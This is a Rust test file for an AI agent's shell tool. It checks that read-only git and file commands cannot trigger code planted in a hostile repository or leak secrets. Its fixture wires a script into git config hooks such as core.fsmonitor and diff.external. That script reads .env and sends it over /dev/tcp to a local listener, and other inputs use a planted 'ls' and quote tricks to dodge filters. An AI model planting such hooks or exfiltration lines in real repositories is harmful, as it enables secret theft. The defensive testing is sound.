//! Commands that run because they are harmless, and their remaining effects: changes, connections
//! and output.

use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::support::Sandbox;

/// Runs commands in a mode, and returns their results.
fn results(sandbox: &Sandbox, mode: &str, commands: &[Value]) -> Vec<Value> {
    let steps = commands
        .iter()
        .map(|args| format!("§call: {}\n§execute\n%%\n", json!({"name": "shell", "args": args})));
    let script = sandbox.write("script", &(steps.collect::<String>() + "§respond: Done.\n§end"));
    let model = format!("script:{script}");
    let said = sandbox.silcrow(&["run", "x", "--model", &model, "--json", "--permissions", mode]);
    said.ends(0).events().into_iter().filter(|event| event["type"] == "result").collect()
}

fn prepare(root: &Path, script: &str) {
    let done = Command::new("bash").args(["-c", script]).current_dir(root).output().unwrap();
    assert!(done.status.success(), "{done:?}");
}

/// Makes a repository whose settings run a program, and which brings a bare one.
const HOSTILE: &str = r#"
git init -q . && git config user.email a@b && git config user.name a
echo one > a.txt; mkdir sub; echo two > sub/b.txt; echo .env > .gitignore
git add . && git commit -qm one && echo three >> a.txt
echo CANARY > .env; echo CANARY > id_rsa; echo CANARY > sub/.env.local
printf '#!/bin/bash\ntouch "%s/pwned"\ncat .env\ncat .env > /dev/tcp/127.0.0.1/%s\n' "$PWD" "$PORT" > run.sh
chmod +x run.sh; P=$PWD/run.sh
git config core.fsmonitor $P; git config diff.external $P; git config core.pager $P
git config diff.x.textconv $P; git config filter.x.clean $P; echo '* diff=x filter=x' > .git/info/attributes
git init -q --bare sub/bare && git -C sub/bare config core.fsmonitor $P
cp -r .git sub/.git
"#;

#[test]
fn harmless_commands_stay_harmless_in_hostile_projects() {
    for mode in ["read-only", "ask", "workspace"] {
        let sandbox = Sandbox::new();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        prepare(&sandbox.root(), &format!("PORT={port}; {HOSTILE}"));
        let commands = [
            "git status",
            "git diff",
            "git log -p",
            "git show",
            "git blame a.txt",
            "git grep -n one",
            "grep -r CAN",
            "cat *",
            "ls -la",
            "wc --files0-from=a.txt",
        ];
        let commands: Vec<_> = commands.iter().map(|text| json!({ "command": text })).collect();
        let given = results(&sandbox, mode, &commands);
        assert_eq!(given.len(), commands.len());
        for (command, result) in commands.iter().zip(&given) {
            assert!(!result.to_string().contains("CANARY"), "{mode}: {command}: {result}");
            assert!(has_run(result), "{mode}: {command}: {result}");
        }
        assert!(!sandbox.root().join("pwned").exists(), "{mode}: {given:?}");
        assert!(listener.accept().is_err(), "{mode}");
        assert!(given[0].to_string().contains("modified:"), "{}", given[0]);
    }
}

/// Returns whether a command ran, with any exit status: git fails if it cannot start a program that
/// a project names.
fn has_run(result: &Value) -> bool {
    result["payload"]["notices"].to_string().contains("exit status")
}

#[test]
fn git_in_another_folder_is_not_harmless() {
    let sandbox = Sandbox::new();
    prepare(&sandbox.root(), &format!("PORT=1; {HOSTILE}"));
    for folder in ["sub", "./sub", "sub/bare"] {
        let args = json!({"command": "git status", "folder": folder});
        for mode in ["read-only", "ask"] {
            let given = results(&sandbox, mode, std::slice::from_ref(&args));
            assert_eq!(given[0]["payload"]["status"], "failure", "{mode}: {}", given[0]);
            assert!(!has_run(&given[0]), "{mode}: {}", given[0]);
        }
    }
    let given = results(&sandbox, "read-only", &[json!({"command": "git status", "folder": "."})]);
    assert_eq!(given[0]["payload"]["status"], "success", "{}", given[0]);
    assert!(!sandbox.root().join("pwned").exists());
}

#[test]
fn commands_get_listed_variables_and_absolute_path_folders() {
    let sandbox = Sandbox::new();
    prepare(&sandbox.root(), "printf '#!/bin/sh\\ntouch pwned\\n' > ls; chmod +x ls");
    let script = "§call: {\"name\":\"shell\",\"args\":{\"command\":\"ls; env\"}}\n§execute\n%%\n\
                  §respond: Done.\n§end";
    let model = format!("script:{}", sandbox.write("script", script));
    let args = ["run", "x", "--json", "--model", &model, "--permissions", "workspace"];
    let path = format!(".::{}", std::env::var("PATH").unwrap());
    let mut command = sandbox.command(&args);
    command.env("PATH", path).env("LC_TOP", "x").env("LC_NUMERIC", "C");
    command.current_dir(sandbox.root());
    let done = command.stdin(std::process::Stdio::null()).output().unwrap();
    let out = String::from_utf8_lossy(&done.stdout);
    assert!(done.status.success(), "{done:?}");
    assert!(out.contains("LC_NUMERIC=C") && !out.contains("LC_TOP"), "{out}");
    assert!(!out.contains("PATH=.") && !sandbox.root().join("pwned").exists(), "{out}");
}

#[test]
fn command_output_shows_secrets_only_without_approvals() {
    for (mode, shows) in [("read-only", false), ("workspace", false), ("full", true)] {
        let sandbox = Sandbox::new();
        fs::write(sandbox.root().join(".env"), "CANARY").unwrap();
        let commands = [json!({"command": "cat .env"}), json!({"command": "cat .e\"\"nv; true"})];
        for result in results(&sandbox, mode, &commands) {
            assert_eq!(result.to_string().contains("CANARY"), shows, "{mode}: {result}");
        }
    }
}
